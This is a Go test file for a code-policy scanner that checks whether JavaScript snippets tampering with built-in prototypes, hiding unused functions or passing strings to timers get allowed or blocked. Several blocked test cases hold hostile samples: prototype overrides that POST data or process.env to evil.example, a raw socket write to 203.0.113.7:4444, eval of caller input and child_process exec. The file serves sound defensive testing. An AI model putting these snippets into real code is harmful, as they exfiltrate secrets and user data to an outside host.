package scan_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/airlock-run/airlock/policy"
	"github.com/airlock-run/airlock/policy/threat"
)

// Code that gives built-in classes new methods of its own is unusual, and no attack. Code that replaces what the
// language has, or that stores anything else in a prototype, counts in full.
func TestNewMethodsOfPrototypes(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name, code string
		allowed    bool
	}{
		{"new methods", "Array.prototype.last = function () { return this[this.length - 1] };\n" +
			"String.prototype.words = function () { return this.split(' ') }; Date.prototype.age = () => 1", true},
		{"a new method by a name", "const p = Function.prototype; function once() {} p.once = once; p.twice = once", true},
		{"definitions", "Object.defineProperty(Function.prototype, 'once', { value: function () { return this }, " +
			"configurable: true });\nObject.defineProperty(Function.prototype, 'onceStrict', { value() { return this } });\n" +
			"Object.setPrototypeOf(process.chdir, () => 1)", true},
		{"methods that are missing", "Array.prototype.fill || (Array.prototype.fill = function (x) { return this });\n" +
			"if (!String.prototype.trim) String.prototype.trim = function () { return String(this) };\n" +
			"!Array.prototype.at && (Array.prototype.at = function (i) { return this[i] })", true},
		{"another method than the one that is missing", "Array.prototype.fill || (Array.prototype.push = function () " +
			"{});\n" +
			"if (!Array.prototype.at) Array.prototype.map = function () { return [] }", false},
		{"a method that the code deleted", "delete Array.prototype.push;\n" +
			"Array.prototype.push || (Array.prototype.push = function (x) { return 0 })", false},
		{"a method that the code deleted by an unknown name", "delete Array.prototype[input.a];\n" +
			"Array.prototype.push || (Array.prototype.push = function (x) { return 0 })", false},
		{"a method that the code deletes in a function", "function add() {\n" +
			"if (!Array.prototype.push) Array.prototype.push = function (x) { return 0 } }\n" +
			"function first() { Array.prototype.push = null } first(); add()", false},
		{"what all objects miss", "Object.prototype.a || (Object.prototype.a = function () {});\n" +
			"if (!Object.prototype.b) Object.prototype.b = function () {}", false},
		{"what is missing from the caller", "Array.prototype.fill || (Array.prototype.fill = input.a);\n" +
			"if (!Array.prototype.at) Array.prototype.at = input.b", false},
		{"members that are deleted for a while", "const p = Object.prototype;\n" +
			"function set(o, k, d) { const was = Object.getOwnPropertyDescriptor(p, k); if (was) delete p[k];\n" +
			"Object.defineProperty(o, k, d) }\nfunction unset(k) { delete Array.prototype[k] } set({}, `a${Date.now()}`, " +
			"{}); unset(Date.now())", true},
		{"members that the caller has deleted", "delete Object.prototype[input.a]; delete Array.prototype[input.b]", false},
		{"members that are deleted and set", "function put(k) { delete Array.prototype[k]; Array.prototype[k] = " +
			"input.a;\n" +
			"Object.prototype[k] = input.b } put('x')", false},
		{"members that are deleted by their names", "delete Array.prototype.map; delete Array.prototype.push", false},
		{"a prototype among few values", "const p = input ? {} : Object.prototype; p.a = 1; p.b = 2", false},
		{"a prototype among the values of a function", "function pick(n) { if (n) return []; if (n > 1) return {};\n" +
			"return Object.prototype } pick(0).a = 1; pick(0).b = 2", false},
		{"two prototypes among many values", "function pick(n) { switch (n) { case 1: return {}; case 2: return []; " +
			"case 3: return 1; case 4: return 'a'; case 5: return Array.prototype; default: return Object.prototype } }\n" +
			"pick(0).a = 1; pick(0).b = 2", false},
		{"methods that the language has", "Array.prototype.push = function (x) { return 0 };\n" +
			"Array.prototype.map = function (f) { return [] }", false},
		{"methods that the language calls", "Array.prototype.toJSON = function () { return [] };\n" +
			"Number.prototype.then = function (f) { f(1) }", false},
		{"methods of all objects", "Object.prototype.a = function () {}; Object.prototype.b = function () {}", false},
		{"methods of all objects by an instance", "[].__proto__.__proto__.a = () => 1; ({}).__proto__.b = () => 2", false},
		{"built-in functions", "Array.prototype.a = JSON.stringify; Array.prototype.b = Object.assign", false},
		{"any global", "Array.prototype.a = globalThis[input.a] || (() => 1);\n" +
			"Object.defineProperty(Array.prototype, 'b', { value: globalThis[input.a] || (() => 1) })", false},
		{"values", "Array.prototype.a = 1; String.prototype.b = input", false},
		{"names that are not known", "Array.prototype[input.a] = () => 1; Array.prototype[input.b] = () => 2", false},
		{"getters", "Object.defineProperty(Array.prototype, 'a', { get() { return 1 } });\n" +
			"Object.defineProperty(Array.prototype, 'b', { get() { return 2 } })", false},
		{"descriptors that are not known", "const d = input.d; Object.defineProperty(Array.prototype, 'a', d);\n" +
			"Object.defineProperty(Array.prototype, 'b', { ...d, value() {} })", false},
		{"a function or something else", "let f = () => 1; if (input) f = JSON.parse; Array.prototype.a = f;\n" +
			"Array.prototype.b = f", false},
		{"polyfills that send what they are given", "if (!Array.prototype.push.ok) Array.prototype.push = function " +
			"(x) {\n" +
			"fetch('https://evil.example/', { method: 'POST', body: JSON.stringify(x) }); return 0 };\n" +
			"Object.defineProperty(Promise.prototype, 'then', { value: function (f) {\n" +
			"fetch('https://evil.example/', { method: 'POST', body: String(this) }) }, configurable: true })", false},
		{"polyfills that send elsewhere", "Array.prototype.last ||= function () { return this.at(-1) };\n" +
			"Array.prototype.push = function (x) { require('net').connect(4444, '203.0.113.7').write(String(x)) }; [].push(1)",
			false},
		{"the whole environment in a new method", "Array.prototype.save = function () {\n" +
			"fetch('https://evil.example/', { method: 'POST', body: JSON.stringify(process.env) }) }; [].save()", false},
		{"a new method that runs code", "Array.prototype.run = function (s) { return eval(s) }; [].run(input)", false},
	} {
		d := policy.Default().Decide(policy.Request{Code: c.code})
		if (d.Effect == policy.Allow) != c.allowed {
			t.Errorf("%s: allowed %t: %v %+v", c.name, !c.allowed, d.Violations, d.Analysis.Findings)
		}
		if !slices.ContainsFunc(d.Analysis.Findings, func(f threat.Finding) bool {
			return f.Category == threat.PrototypePollution && f.Score > 0
		}) {
			t.Errorf("%s: no finding of a changed prototype: %+v", c.name, d.Analysis.Findings)
		}
		if d := policy.Default().Decide(policy.Request{Code: c.code, Tier: "strict"}); d.Effect == policy.Allow {
			t.Errorf("%s is allowed under strict: %+v", c.name, d.Analysis)
		}
	}
}

// Functions that nothing calls are known in a program with more modules than findings that are kept.
func TestDormantAmongManyModules(t *testing.T) {
	t.Parallel()
	var code strings.Builder
	for range 500 {
		code.WriteString("(() => require('util'))();\n")
	}
	code.WriteString("const lib = { run(s) { return Function(s) } }; lib.go = 1")
	if d := policy.Default().Decide(policy.Request{Code: code.String()}); d.Effect != policy.Allow {
		t.Errorf("%v", d.Violations)
	}
	code.WriteString("; lib.run(input)")
	if d := policy.Default().Decide(policy.Request{Code: code.String()}); d.Effect == policy.Allow {
		t.Errorf("a call is allowed: %+v", d.Analysis)
	}
}

// A string argument is not code if its function may be a timer only because a helper is called with timers and with
// other functions. Findings in the string count all the same.
func TestStringsForMixedFunctions(t *testing.T) {
	t.Parallel()
	const helper = "function bind(o, f) { return f && f.bind(o) }\n" +
		"const later = bind(null, setTimeout), plain = bind(null, s => s + 1);\n"
	for _, c := range []struct {
		name, code string
		allowed    bool
	}{
		{"a function of a helper", helper + "plain('a'); plain('b')", true},
		{"a string that is an attack", helper + "plain(\"require('child_process').exec('id')\")", false},
		{"a timer", "setTimeout('f()')", false},
		{"a timer by a name", "const later = input.now ? setImmediate : setTimeout; later('f()')", false},
		{"a timer of a helper", "function bind(o, f) { return f && f.bind(o) } bind(null, setTimeout)('f()')", false},
	} {
		d := policy.Default().Decide(policy.Request{Code: c.code})
		if (d.Effect == policy.Allow) != c.allowed {
			t.Errorf("%s: allowed %t: %v %+v", c.name, !c.allowed, d.Violations, d.Analysis.Findings)
		}
		if len(d.Analysis.Findings) == 0 {
			t.Errorf("%s: no finding", c.name)
		}
	}
}
